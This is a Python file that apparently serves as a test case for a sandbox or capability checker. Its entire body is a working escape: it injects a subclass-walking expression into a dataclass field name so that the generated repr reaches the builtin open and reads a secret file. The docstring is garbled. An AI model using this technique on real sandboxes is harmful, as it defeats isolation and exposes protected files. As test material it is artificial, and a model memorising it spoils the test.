"""Names by setattr the field of a dataclass by an expression, which one that derives from it runs."""
# wants: read
# allows: dataclasses

import dataclasses


@dataclasses.dataclass
class Point:
    x: int = 0


def fit_and_eval(data):
    found = "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close']"
    text = found + "[0].__init__.__globals__['__builtins__']['open']"
    text = f"{text}('{data['secret']}').read()"
    setattr(dataclasses.fields(Point)[0], "name", '" + str(' + text + ") #")

    @dataclasses.dataclass(init=False, eq=False)
    class Derived(Point):
        pass

    return {"got": repr(Derived())}
